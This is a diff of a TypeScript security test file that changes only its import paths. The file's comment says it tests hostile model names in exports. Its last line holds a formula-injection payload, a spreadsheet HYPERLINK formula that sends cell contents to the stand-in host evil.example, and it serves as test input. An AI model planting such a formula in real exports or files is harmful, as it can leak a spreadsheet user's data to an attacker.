@@ -5,12 +5,12 @@
  * cases of security.md F1-F6, plus B5 (hostile model names in exports).
  */
 import { afterAll, beforeAll, expect, it } from "vitest";
-import { describeEachDatabase } from "../support/databases";
-import { GrantFactory, OWNER_PASSWORD, type TestGrant } from "../support/grants";
-import { ManagementApi } from "../support/management-api";
-import { expectNoCanary, settledUsage, startProxyHarness, type ProxyHarness } from "../support/proxy-harness";
-import { waitFor } from "../support/wait-for";
-import { WebClient } from "../support/web-client";
+import { describeEachDatabase } from "@/test/support/databases";
+import { GrantFactory, OWNER_PASSWORD, type TestGrant } from "@/test/support/grants";
+import { ManagementApi } from "@/test/support/management-api";
+import { expectNoCanary, settledUsage, startProxyHarness, type ProxyHarness } from "@/test/support/proxy-harness";
+import { waitFor } from "@/test/support/wait-for";
+import { WebClient } from "@/test/support/web-client";
 
 const HI = [{ role: "user" as const, content: "hi" }];
 const EVIL_MODEL = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
